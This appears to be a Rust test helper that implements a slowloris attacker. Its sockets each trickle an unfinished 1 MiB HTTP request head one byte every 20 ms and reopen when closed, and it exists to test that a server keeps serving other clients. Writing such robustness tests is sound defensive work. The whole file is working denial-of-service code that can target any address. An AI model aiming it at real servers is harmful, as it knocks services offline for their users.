//! A slowloris attacker: sockets that each send a request head one byte at a time and never
//! finish it, re-opening as soon as the server closes them, for tests of an HTTP server that
//! must keep answering everyone else.

use std::io;
use std::net::{Ipv4Addr, SocketAddr};
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::Arc;
use std::time::Duration;

use tokio::io::AsyncWriteExt as _;

/// How long a trickling socket waits between two bytes.
const BYTE_EVERY: Duration = Duration::from_millis(20);

/// The running attack; [`Trickle::stop`] ends it.
#[derive(Debug)]
pub struct Trickle {
    stop: Arc<AtomicBool>,
    bytes: Arc<AtomicU64>,
    runtime: Option<tokio::runtime::Runtime>,
}

impl Trickle {
    /// `sockets` sockets to `addr`, spread over the loopback `sources` (e.g. `127.0.1.1`…),
    /// each trickling `GET path` with a 1 MiB header, one byte every 20 ms. All of them run
    /// as tasks on one thread of their own, so the attack costs its host little memory.
    pub fn start(
        addr: SocketAddr,
        path: &str,
        sources: &[Ipv4Addr],
        sockets: usize,
    ) -> io::Result<Trickle> {
        let runtime = tokio::runtime::Builder::new_multi_thread()
            .worker_threads(1)
            .enable_io()
            .enable_time()
            .build()?;
        let stop = Arc::new(AtomicBool::new(false));
        let bytes = Arc::new(AtomicU64::new(0));
        let sources: Vec<Ipv4Addr> = if sources.is_empty() {
            vec![Ipv4Addr::LOCALHOST]
        } else {
            sources.to_vec()
        };
        let head: Arc<[u8]> = format!(
            "GET {path} HTTP/1.1\r\nHost: x\r\nX-Pad: {}",
            "a".repeat(1 << 20)
        )
        .into_bytes()
        .into();
        for n in 0..sockets {
            let (stop, bytes, head) = (Arc::clone(&stop), Arc::clone(&bytes), Arc::clone(&head));
            let source = sources
                .get(n % sources.len())
                .copied()
                .unwrap_or(Ipv4Addr::LOCALHOST);
            runtime.spawn(async move {
                while !stop.load(Ordering::Relaxed) {
                    let Ok(mut socket) = connect_from(source, addr).await else {
                        // Refused: try again, without spinning.
                        tokio::time::sleep(BYTE_EVERY).await;
                        continue;
                    };
                    for byte in head.iter() {
                        if stop.load(Ordering::Relaxed)
                            || socket.write_all(std::slice::from_ref(byte)).await.is_err()
                        {
                            break;
                        }
                        bytes.fetch_add(1, Ordering::Relaxed);
                        tokio::time::sleep(BYTE_EVERY).await;
                    }
                }
            });
        }
        Ok(Trickle {
            stop,
            bytes,
            runtime: Some(runtime),
        })
    }

    /// Bytes trickled so far: the attack holds its sockets once every socket has sent some.
    pub fn bytes_sent(&self) -> u64 {
        self.bytes.load(Ordering::Relaxed)
    }

    /// Stops every socket.
    pub fn stop(mut self) {
        self.stop.store(true, Ordering::Relaxed);
        if let Some(runtime) = self.runtime.take() {
            runtime.shutdown_timeout(Duration::from_secs(5));
        }
    }
}

/// A socket connected to `addr` from the loopback address `source`.
async fn connect_from(source: Ipv4Addr, addr: SocketAddr) -> io::Result<tokio::net::TcpStream> {
    let socket = tokio::net::TcpSocket::new_v4()?;
    socket.bind(SocketAddr::from((source, 0)))?;
    let stream = socket.connect(addr).await?;
    stream.set_nodelay(true)?;
    Ok(stream)
}
